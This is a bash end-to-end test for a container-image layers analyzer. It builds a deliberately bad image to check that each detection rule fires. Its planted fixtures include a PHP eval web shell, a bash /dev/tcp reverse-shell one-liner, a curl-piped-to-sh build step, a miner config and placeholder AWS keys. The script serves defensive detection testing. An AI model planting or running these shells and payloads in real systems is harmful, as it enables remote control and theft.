#!/usr/bin/env bash
# 0630-layers-analyzer: the layers analyzer end to end.
#
# A "bad" image is built here with umoci and shipped by skopeo as a
# docker-archive (the way 0600-image builds its images), with one planted
# thing per rule: an AWS key pair in /app/.env, a private key added and
# deleted by the next layer (a secret hidden by a whiteout), an executable
# deleted the same way, a setuid copy of a binary in /opt, a miner config
# and an XMRig-like binary, a PHP web shell, a reverse-shell script that is
# also an executable under /tmp in a hidden directory, a world-writable
# directory, build steps that pipe curl to sh, chmod 777, ADD a URL and
# pass a password, and a config running as root with a secret in ENV, port
# 22 exposed and WORKDIR /proc/self/fd/8 (CVE-2024-21626). Each must raise
# its rule. A "clean" image (non-root user, a tag, nothing planted) must
# raise nothing of medium severity or above; umoci cannot set a
# HEALTHCHECK, so layers.config.no_healthcheck (low) is expected on both.
# A rule added as data (DRYDOCK_LAYER_RULES) fires without a rebuild, a
# broken one fails the run naming its file and line, and findings keep
# their ids across runs. Last, dive's own test image
# (../shared/fixtures/image/dive/test-docker-image.tar) must get the
# numbers dive's Test_Analysis expects (dive/image/docker/
# image_archive_analysis_test.go at wagoodman/dive d6c6919):
# efficiency 0.9844212134184309, wasted bytes 32025, size bytes 1220598,
# user size bytes 66237, wasted user percent 0.4834911001404049.
set -u
. "$(dirname "$0")/../lib/lib.sh"

q() { "$DRYDOCK" query --format csv "$1" "$2" 2>/dev/null | tail -n +2; }
# rules CASE: the layers analyzer's rule ids, sorted, unique, one a line.
rules() {
	q "$1" "select distinct rule from findings where analyzer = 'layers' order by rule"
}
# has RULE CASE DESC: a finding of RULE exists.
has() {
	if rules "$2" | grep -qx -- "$1"; then
		ok "$3 ($1)"
	else
		fail_only "$3 ($1)"
		echo "    rules: $(rules "$2" | tr '\n' ' ')"
	fi
}

if ! command -v umoci >/dev/null || ! command -v skopeo >/dev/null; then
	echo "skip: umoci/skopeo not installed: the built images need them"
else
	# ---- the bad image ----
	L=$T/oci
	B=$T/bundle
	R=$B/rootfs
	umoci init --layout "$L" >/dev/null 2>&1
	umoci new --image "$L:bad" >/dev/null 2>&1
	umoci unpack --rootless --image "$L:bad" "$B" >/dev/null 2>&1
	# repack CREATED_BY: one layer with the bundle's changes.
	repack() {
		umoci repack --refresh-bundle --history.created_by "$1" \
			--image "$L:bad" "$B" >/dev/null 2>&1
	}
	AKIA=AKIAZ7Q4TLM2XW9RVB3N
	ASEC='k9Jw2Qe7/Rt5Yu1Io3Pa8Sd4Fg6Hj0Kl+Zx7Cv2+'
	mkdir -p "$R/etc" "$R/app" "$R/root/.ssh" "$R/opt/tools" "$R/opt/miner" \
		"$R/var/www/html" "$R/tmp/.x" "$R/srv/drop" "$R/bin"
	echo "root:x:0:0:root:/root:/bin/sh" >"$R/etc/passwd"
	printf 'AWS_ACCESS_KEY_ID=%s\nAWS_SECRET_ACCESS_KEY=%s\nLOG_LEVEL=info\n' \
		"$AKIA" "$ASEC" >"$R/app/.env"
	{
		echo "-----BEGIN OPENSSH PRIVATE KEY-----"
		head -c 600 /dev/urandom | base64 -w 70
		echo "-----END OPENSSH PRIVATE KEY-----"
	} >"$R/root/.ssh/id_rsa"
	chmod 600 "$R/root/.ssh/id_rsa"
	cp "$R/root/.ssh/id_rsa" "$T/planted_key"
	printf '#!/bin/sh\necho stage two\n' >"$R/opt/tools/dropper"
	chmod 755 "$R/opt/tools/dropper"
	cp /bin/true "$R/opt/helper"
	chmod 4755 "$R/opt/helper"
	cat >"$R/opt/miner/config.json" <<'EOF'
{
  "autosave": true,
  "donate-level": 1,
  "cpu": { "enabled": true },
  "pools": [ { "url": "stratum+tcp://pool.example.net:3333",
    "user": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
    "pass": "x" } ]
}
EOF
	printf '\177ELF\0\0\0XMRig/6.21.0 (Linux x86_64)\0cryptonight\0rx/0 RandomX\0--donate-level=N\0' \
		>"$R/opt/miner/kworker"
	chmod 755 "$R/opt/miner/kworker"
	echo '<?php if (isset($_POST["c"])) { eval(base64_decode($_POST["c"])); } ?>' \
		>"$R/var/www/html/up.php"
	printf '#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n' >"$R/tmp/.x/cb.sh"
	chmod 755 "$R/tmp/.x/cb.sh"
	chmod 0777 "$R/srv/drop"
	echo 'ALERT=1' >"$R/app/settings.conf"
	repack "RUN /bin/sh -c curl -fsSL https://get.example.com/install.sh | sh # buildkit"
	rm -f "$R/root/.ssh/id_rsa" "$R/opt/tools/dropper"
	repack "RUN /bin/sh -c rm -f /root/.ssh/id_rsa /opt/tools/dropper && chmod 777 /srv/drop # buildkit"
	echo x >"$R/opt/tool.tgz"
	repack "ADD https://downloads.example.com/tool.tgz /opt/tool.tgz # buildkit"
	echo y >"$R/app/db.txt"
	repack "RUN |1 DB_PASSWORD=hunter2hunter2 /bin/sh -c mysql --password=hunter2hunter2 -e 'select 1' # buildkit"
	umoci config --image "$L:bad" --history.created_by "ENV AWS_SECRET_ACCESS_KEY=$ASEC" \
		--config.env "AWS_SECRET_ACCESS_KEY=$ASEC" >/dev/null 2>&1
	umoci config --image "$L:bad" --history.created_by "USER root" \
		--config.user root >/dev/null 2>&1
	umoci config --image "$L:bad" --history.created_by "EXPOSE 22/tcp" \
		--config.exposedports 22/tcp >/dev/null 2>&1
	umoci config --image "$L:bad" --history.created_by "WORKDIR /proc/self/fd/8" \
		--config.workingdir /proc/self/fd/8 >/dev/null 2>&1

	# ---- the clean image ----
	umoci new --image "$L:clean" >/dev/null 2>&1
	umoci unpack --rootless --image "$L:clean" "$T/cb" >/dev/null 2>&1
	mkdir -p "$T/cb/rootfs/app" "$T/cb/rootfs/etc"
	printf 'root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000::/app:/bin/sh\n' \
		>"$T/cb/rootfs/etc/passwd"
	printf '#!/bin/sh\nexec /app/server --port 8080\n' >"$T/cb/rootfs/app/run.sh"
	chmod 755 "$T/cb/rootfs/app/run.sh"
	printf 'listen: 8080\nlog: info\n' >"$T/cb/rootfs/app/config.yaml"
	umoci repack --refresh-bundle --history.created_by "COPY app/ /app/ # buildkit" \
		--image "$L:clean" "$T/cb" >/dev/null 2>&1
	umoci config --image "$L:clean" --history.created_by "USER 1000:1000" \
		--config.user 1000:1000 --config.workingdir /app >/dev/null 2>&1

	if skopeo copy "oci:$L:bad" "docker-archive:$T/bad.tar:bad:latest" >/dev/null 2>&1 &&
		skopeo copy "oci:$L:clean" "docker-archive:$T/clean.tar:clean:1.0" >/dev/null 2>&1; then
		C=$T/bad.dd
		dk init "$C"
		dk ingest "$C" "$T/bad.tar"
		expect_rc 0 "bad image: imports"
		dk analyze --only layers "$C"
		expect_rc 0 "bad image: analyze --only layers exits 0"
		has layers.secret.aws_key_pair "$C" "AWS key pair in /app/.env"
		expect_eq "... the finding names /app/.env" 1 \
			"$(q "$C" "select count(*) from findings where rule = 'layers.secret.aws_key_pair' and title like '%/app/.env%'")"
		has layers.secret.dotenv_key "$C" "high-entropy secret in the .env file"
		has layers.secret.private_key "$C" "private key in a layer"
		has layers.hidden.secret "$C" "private key deleted by a later layer"
		d=$(q "$C" "select detail from findings where rule = 'layers.hidden.secret' and title like '%/root/.ssh/id_rsa%'")
		case $d in
		*"export-file CASE --layer "*"'/root/.ssh/id_rsa'"*) ok "... the detail gives the export-file command line" ;;
		*) fail_only "... the detail gives the export-file command line"; echo "    $d" ;;
		esac
		case $d in
		*"rm -f /root/.ssh/id_rsa"*) ok "... and names the step that deleted it" ;;
		*) fail_only "... and names the step that deleted it"; echo "    $d" ;;
		esac
		lid=$(echo "$d" | sed -n "s/.*export-file CASE --layer \([0-9]*\) '\/root\/.ssh\/id_rsa'.*/\1/p" | head -n 1)
		dk export-file "$C" --layer "${lid:-0}" /root/.ssh/id_rsa -o "$T/recovered"
		expect_rc 0 "... and that command recovers the key"
		expect_eq "... byte for byte" "$(sha256sum <"$T/planted_key")" \
			"$(sha256sum <"$T/recovered" 2>/dev/null)"
		has layers.hidden.executable "$C" "an executable deleted by a later layer"
		expect_eq "... it is /opt/tools/dropper" 1 \
			"$(q "$C" "select count(*) from finding_evidence e join findings f on f.id = e.finding_id
				where f.rule = 'layers.hidden.executable' and e.relation = 'files' and e.key like '%:/opt/tools/dropper'")"
		has layers.perm.setuid "$C" "setuid copy of a binary in /opt"
		expect_eq "... /opt/helper, medium (setuid root)" "layers.perm.setuid,medium" \
			"$(q "$C" "select rule, severity from findings where rule = 'layers.perm.setuid' and title like '%/opt/helper%'")"
		has layers.miner.config "$C" "miner configuration"
		has layers.miner.xmrig "$C" "XMRig-like binary"
		has layers.webshell.php_eval "$C" "PHP web shell"
		has layers.shell.dev_tcp "$C" "reverse-shell one-liner"
		has layers.perm.world_writable "$C" "world-writable directory without the sticky bit"
		expect_eq "... /srv/drop is its evidence" 1 \
			"$(q "$C" "select count(*) from finding_evidence e join findings f on f.id = e.finding_id
				where f.rule = 'layers.perm.world_writable' and e.key like '%:/srv/drop'")"
		has layers.perm.tmp_executable "$C" "executable under /tmp"
		has layers.perm.hidden_executable "$C" "executable in a hidden directory"
		has layers.secret.env "$C" "AWS secret key in ENV"
		expect_eq "... the ENV finding does not print the secret" 0 \
			"$(q "$C" "select count(*) from findings where analyzer = 'layers' and detail like '%$ASEC%'")"
		has layers.secret.build_step "$C" "password passed in a RUN step"
		expect_eq "... no finding quotes the password (steps are redacted)" 0 \
			"$(q "$C" "select count(*) from findings where analyzer = 'layers' and
				(detail like '%hunter2%' or title like '%hunter2%')")"
		expect_eq "... one step finding, not the ENV step (the ENV finding covers it)" 1 \
			"$(q "$C" "select count(*) from findings where rule = 'layers.secret.build_step'")"
		has layers.config.root_user "$C" "runs as root"
		has layers.config.latest_tag "$C" "latest tag"
		has layers.config.add_url "$C" "ADD of a URL"
		has layers.config.curl_pipe_sh "$C" "curl | sh"
		has layers.config.chmod_777 "$C" "chmod 777"
		has layers.config.sshd "$C" "port 22 exposed"
		has layers.config.no_healthcheck "$C" "no HEALTHCHECK"
		has layers.config.workdir_proc_fd "$C" "WORKDIR /proc/self/fd/8"
		expect_eq "... high, T1611" 'high,"[""T1611""]"' \
			"$(q "$C" "select severity, attack from findings where rule = 'layers.config.workdir_proc_fd'")"
		has layers.efficiency "$C" "efficiency numbers"
		expect_eq "every finding names at least one evidence row" 0 \
			"$(q "$C" "select count(*) from findings f where analyzer = 'layers' and
				not exists (select 1 from finding_evidence e where e.finding_id = f.id)")"
		expect_eq "every files evidence row names a files row" 0 \
			"$(q "$C" "select count(*) from finding_evidence e join findings f on f.id = e.finding_id
				where f.analyzer = 'layers' and e.relation = 'files' and not exists
				(select 1 from files x where x.layer_id || ':' || x.path = e.key)")"
		ids1=$(q "$C" "select id from findings where analyzer = 'layers' order by id" | md5sum)
		dk analyze --only layers "$C"
		expect_eq "a second run gives the same finding ids" "$ids1" \
			"$(q "$C" "select id from findings where analyzer = 'layers' order by id" | md5sum)"
		rs1=$(q "$C" "select rules_sha256 from analyzer_runs where analyzer = 'layers'")

		# A rule added as data, without rebuilding, fires.
		mkdir -p "$T/extra"
		cat >"$T/extra/canary.yar" <<'EOF'
rule canary_settings
{
	meta:
		id = "custom.canary"
		kind = "other"
		severity = "low"
		attack = "T1525"
		title = "canary setting"
	strings:
		$a = "ALERT=1"
	condition:
		$a and filename == "settings.conf"
}
EOF
		DRYDOCK_LAYER_RULES=$T/extra dk analyze --only layers "$C"
		expect_rc 0 "DRYDOCK_LAYER_RULES: a rule directory added at run time"
		has layers.custom.canary "$C" "... its rule fires"
		expect_ne "... and the rules digest in custody changes" "$rs1" \
			"$(q "$C" "select rules_sha256 from analyzer_runs where analyzer = 'layers'")"
		echo 'rule broken { condition: $nope }' >"$T/extra/broken.yar"
		DRYDOCK_LAYER_RULES=$T/extra dk analyze --only layers "$C"
		if [ "$RC" -ne 0 ] && ! t_sanitized && grep -q "broken.yar:1:" "$T/.err"; then
			ok "a broken rule file fails the run, naming its file and line"
		else
			fail "a broken rule file fails the run, naming its file and line"
		fi
		rm -f "$T/extra/broken.yar"

		C2=$T/clean.dd
		dk init "$C2"
		dk ingest "$C2" "$T/clean.tar"
		expect_rc 0 "clean image: imports"
		dk analyze --only layers "$C2"
		expect_rc 0 "clean image: analyze exits 0"
		expect_eq "clean image: nothing of medium severity or above" "" \
			"$(q "$C2" "select rule || ' ' || title from findings where analyzer = 'layers'
				and severity in ('medium', 'high', 'critical')")"
		expect_eq "clean image: only no_healthcheck (umoci cannot set one) and efficiency" \
			"layers.config.no_healthcheck layers.efficiency " \
			"$(rules "$C2" | tr '\n' ' ')"
	else
		fail_only "skopeo could not write the built images"
	fi
fi

# ---- dive's test image: dive's own expected numbers ----
DIVE=$FIX/image/dive/test-docker-image.tar
if [ -f "$DIVE" ]; then
	C3=$T/dive.dd
	dk init "$C3"
	dk ingest "$C3" "$DIVE"
	expect_rc 0 "dive test image: imports"
	dk analyze --only layers "$C3"
	expect_rc 0 "dive test image: analyze exits 0"
	d=$(q "$C3" "select detail from findings where rule = 'layers.efficiency'")
	for want in "efficiency 0.9844212134184309," "wasted bytes 32025," \
		"image bytes 1220598," "user bytes 66237 " \
		"wasted user percent 0.4834911001404049 "; do
		case $d in
		*"$want"*) ok "dive test image: $want as dive's Test_Analysis" ;;
		*) fail_only "dive test image: $want as dive's Test_Analysis"; echo "    $d" ;;
		esac
	done
	case $d in
	*"/root/example/somefile1.txt (2 copies, 12810 bytes), /root/saved.txt (2 copies, 12810 bytes), /root/example/somefile3.txt (2 copies, 6405 bytes)"*)
		ok "dive test image: the wasted paths are dive's (export_test.snap fileReference)" ;;
	*) fail_only "dive test image: the wasted paths are dive's"; echo "    $d" ;;
	esac
	expect_eq "dive test image: nothing high (busybox: root, empty root password, latest)" "" \
		"$(q "$C3" "select rule from findings where analyzer = 'layers' and severity in ('high', 'critical')")"
else
	echo "skip: $DIVE is not there"
fi

t_done
